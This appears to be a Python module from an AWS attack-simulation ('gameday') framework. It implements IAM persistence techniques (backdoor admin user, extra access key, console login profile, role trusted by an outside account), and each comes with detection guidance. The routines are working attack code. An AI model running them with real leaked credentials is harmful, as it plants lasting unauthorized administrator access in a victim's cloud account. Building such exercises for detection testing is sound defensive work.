"""Persistence: footholds that outlive the leaked key."""

from __future__ import annotations

from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Resource, Technique
from gameday.scenario.model import BackdoorExistingUser, BackdoorRole, BackdoorUser, LoginProfile
from gameday.world.decoys import Credential


def _mint_key(ctx: AttackerContext, user_name: str) -> None:
    created = ctx.call("iam", "create_access_key", UserName=user_name)
    if created:
        key = created["AccessKey"]
        ctx.add_credential(Credential(key["AccessKeyId"], key["SecretAccessKey"]))
        ctx.created(Resource("access-key", key["AccessKeyId"], parent=user_name))


def _backdoor_user(ctx: AttackerContext, params: BackdoorUser) -> None:
    if ctx.call("iam", "create_user", UserName=params.user_name) is None:
        return
    ctx.created(Resource("user", params.user_name))
    ctx.call("iam", "attach_user_policy", UserName=params.user_name, PolicyArn=params.policy)
    _mint_key(ctx, params.user_name)


def _backdoor_existing_user(ctx: AttackerContext, params: BackdoorExistingUser) -> None:
    _mint_key(ctx, params.user_name)


def _login_profile(ctx: AttackerContext, params: LoginProfile) -> None:
    password = "".join(
        ctx.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#%+")
        for _ in range(20)
    )
    done = ctx.call(
        "iam",
        "create_login_profile",
        UserName=params.user_name,
        Password=password,
        PasswordResetRequired=False,
    )
    if done:
        ctx.created(Resource("login-profile", params.user_name, parent=params.user_name))


def _backdoor_role(ctx: AttackerContext, params: BackdoorRole) -> None:
    trust = (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":'
        f'"arn:aws:iam::{params.trusted_account}:root"}},"Action":"sts:AssumeRole"}}]}}'
    )
    if (
        ctx.call("iam", "create_role", RoleName=params.role_name, AssumeRolePolicyDocument=trust)
        is None
    ):
        return
    ctx.created(Resource("role", params.role_name))
    ctx.call("iam", "attach_role_policy", RoleName=params.role_name, PolicyArn=params.policy)


TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-backdoor-user",
        tactic="persistence",
        title="Create a backdoor administrator",
        description="Creates a new IAM user with a plausible service name, attaches "
        "AdministratorAccess and mints an access key for it, which the attacker uses from "
        "then on.",
        detection="CreateUser, AttachUserPolicy (AdministratorAccess) and CreateAccessKey in "
        "quick succession from the leaked key; a user nobody asked for.",
        detonate=_backdoor_user,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-backdoor-existing-user",
        tactic="persistence",
        title="Add a second access key to an existing user",
        description="Mints an extra access key on a legitimate user, which blends in better "
        "than a new user.",
        detection="CreateAccessKey for a user by a principal other than that user; a user "
        "with two active keys.",
        detonate=_backdoor_existing_user,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-login-profile",
        tactic="persistence",
        title="Give a user a console password",
        description="Creates a login profile (console password) for a user that had none, "
        "opening the AWS console to the attacker.",
        detection="CreateLoginProfile in CloudTrail; a console sign-in for a programmatic user.",
        detonate=_login_profile,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-backdoor-role",
        tactic="persistence",
        title="Create a role trusted by an outside account",
        description="Creates a role whose trust policy lets an account the attacker controls "
        "assume it, and attaches AdministratorAccess.",
        detection="CreateRole with an external account in the trust policy; IAM Access Analyzer "
        "external-access findings.",
        detonate=_backdoor_role,
    )
)
